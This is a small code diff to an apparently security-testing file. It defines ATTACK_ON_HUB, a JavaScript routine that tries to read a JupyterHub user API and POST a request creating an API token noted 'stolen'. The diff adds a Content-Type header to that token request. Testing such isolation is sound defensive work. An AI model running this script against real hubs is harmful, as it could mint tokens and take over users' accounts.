@@ -22,7 +22,8 @@ ATTACK_ON_HUB = """async (hub) => {
     await attempt("read", () => read(hub + "/hub/api/user"));
     await attempt("here", () => read("/hub/api/user"));
     await attempt("token", async () => {
-        const answer = await fetch(tokens, { ...mine, method: "POST", body: JSON.stringify({ note: "stolen" }) });
+        const headers = { ...mine.headers, "Content-Type": "application/json" };
+        const answer = await fetch(tokens, { ...mine, headers, method: "POST", body: JSON.stringify({ note: "stolen" }) });
         return (await answer.json()).note;
     });
     await attempt("blind", async () => {
